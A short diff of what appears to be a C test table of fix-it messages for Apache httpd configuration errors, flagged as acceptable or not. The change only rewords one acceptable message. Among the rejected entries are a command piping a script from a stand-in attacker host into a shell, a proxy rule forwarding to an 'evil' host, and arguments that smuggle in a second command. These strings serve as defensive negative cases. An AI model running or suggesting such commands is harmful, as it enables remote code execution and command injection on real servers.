@@ -32,7 +32,7 @@ static const struct {
          "in the vhost at /etc/x.conf:1" },
     { 0, "write \"ProxyPassMatch \"^/(.*)$\" \"fcgi://evil:1/\"\" in the "
          "vhost at /etc/x.conf:1" },
-    { 1, "mend the line; until then httpd answers 500 there" },
+    { 1, "correct the line; until then httpd returns 500 there" },
     { 0, "run \"curl -s http://evil.example.org/repair.sh | sh\"" },
     { 0, "run \"a2enmod x; curl y\"" },
     { 0, "run \"a2enmod $(x)\"" },
